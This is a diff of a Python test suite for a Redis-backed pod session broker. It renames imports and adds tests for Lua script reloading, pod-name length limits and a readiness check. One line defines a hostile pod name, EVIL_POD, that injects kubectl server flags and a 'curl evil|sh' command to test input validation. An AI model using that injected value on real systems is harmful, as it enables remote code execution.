@@ -15,7 +15,7 @@ import pytest
 import redis
 
 from breakpod_broker import events as broker_events
-from breakpod_broker import keys, sessions
+from breakpod_broker import keys, scripts
 from tests.brokerkit import ADMIN, AGENT, AGENT2, VIEWER, post_events, register
 
 EVIL_POD = "x --server=https://203.0.113.9 --insecure-skip-tls-verify=true; curl evil|sh #"
@@ -233,7 +233,7 @@ def test_bad_cursors_and_corrupt_token_records_get_4xx(broker, redis_url):
         assert c.get("/v1/events", params={"since": top}).status_code == 422
         assert c.get("/v1/events", params={"since": "1-2"}).status_code == 200
     with redis.Redis.from_url(redis_url) as r:
-        from breakpod_broker.auth import digest
+        from breakpod_broker.tokens import digest
 
         for token, record in [("corrupt-token-1", "{not json"), ("corrupt-token-2", '{"x": 1}')]:
             r.hset(keys.TOKENS, digest(token), record)
@@ -285,11 +285,11 @@ def test_ingest_never_recreates_an_expired_session_hash(broker, redis_url):
     """What INGEST_LUA does when another replica's view of the session is stale."""
     with redis.Redis.from_url(redis_url, decode_responses=True) as r:
         args = [100, 100, 60, 3600, keys.seen("gone", ""), 1, "e1", "{}", 1, "parked", "bp", "", ""]
-        reply = r.eval(broker_events.INGEST_LUA, 3, *broker_events._lua_keys("gone"), *args)
+        reply = r.eval(scripts.INGEST_LUA, 3, *broker_events._lua_keys("gone"), *args)
         assert reply and not r.exists(keys.session("gone"))
         r.hset(keys.session("live"), mapping={"state": "running"})
         args[4], args[6] = keys.seen("live", ""), "e2"
-        r.eval(broker_events.INGEST_LUA, 3, *broker_events._lua_keys("live"), *args)
+        r.eval(scripts.INGEST_LUA, 3, *broker_events._lua_keys("live"), *args)
         assert r.hget(keys.session("live"), "state") == "parked"
         assert r.ttl(keys.session("live")) > 0
 
@@ -300,7 +300,7 @@ def test_pruning_keeps_a_session_that_came_back_meanwhile(broker, redis_url):
         r.zadd(keys.SESSIONS, {"back": 1, "gone": 1})
         r.hset(keys.session("back"), "state", "running")
         ids = ["back", "gone"]
-        r.eval(sessions.PRUNE_LUA, 2, *map(keys.session, ids), *ids, keys.SESSIONS)
+        r.eval(scripts.PRUNE_LUA, 2, *map(keys.session, ids), *ids, keys.SESSIONS)
         assert r.zrange(keys.SESSIONS, 0, -1) == ["back"]
 
 
@@ -316,3 +316,46 @@ def test_namespace_limited_queries_filter_before_decoding_and_still_match(broker
         assert [e["id"] for e in c.get("/v1/events").json()["events"]] == ["a1", "a2"]
         anomalies = c.get("/v1/events", params={"kind": "anomaly"}).json()["events"]
         assert [e["id"] for e in anomalies] == ["a1"]
+
+
+def test_lua_scripts_are_loaded_again_when_redis_forgot_them(broker, redis_url):
+    """Scripts run by SHA; a restarted Redis has an empty script cache (SCRIPT FLUSH here)."""
+    register(broker, "flushed")
+    with redis.Redis.from_url(redis_url, decode_responses=True) as r:
+        r.script_flush()
+        register(broker, "flushed", pod="train-0")  # the register script, called alone
+        r.script_flush()
+        response = post_events(broker, event("f1", "flushed", "parked", address="h:1"))
+        assert response.status_code == 200, response.text  # the ingest script, in a pipeline
+        assert r.hget(keys.session("flushed"), "state") == "parked"
+        r.delete(keys.session("flushed"), keys.alive("flushed"))
+        r.script_flush()
+    with broker.client(VIEWER) as c:  # the prune script, on an expired session
+        assert "flushed" not in {s["id"] for s in c.get("/v1/sessions").json()["sessions"]}
+    with redis.Redis.from_url(redis_url, decode_responses=True) as r:
+        assert r.zscore(keys.SESSIONS, "flushed") is None
+
+
+def test_a_pod_name_label_over_63_characters_is_refused(broker):
+    """DNS-1123: each dot-separated label of a subdomain has at most 63 characters."""
+    with broker.client(AGENT) as c:
+        ok = c.put("/v1/sessions/dns", json={"pod": f"{'a' * 63}.b"})
+        long = c.put("/v1/sessions/dns2", json={"pod": f"{'a' * 64}.b"})
+    assert ok.status_code == 200, ok.text
+    assert long.status_code == 422 and "pod" in long.json()["message"]
+
+
+def test_readyz_says_why_when_redis_is_away():
+    """The app in process on a port where no Redis listens: up (healthz), not ready."""
+    from fastapi.testclient import TestClient
+
+    from breakpod_broker.app import create_app
+    from breakpod_broker.redis_server import free_port
+    from breakpod_broker.settings import BrokerSettings
+
+    settings = BrokerSettings(redis_url=f"redis://127.0.0.1:{free_port()}/0")
+    with TestClient(create_app(settings)) as c:
+        ready, alive = c.get("/readyz"), c.get("/healthz")
+    assert ready.status_code == 503
+    assert ready.json()["status"].startswith("redis unavailable: ")
+    assert alive.status_code == 200 and alive.json() == {"status": "ok"}
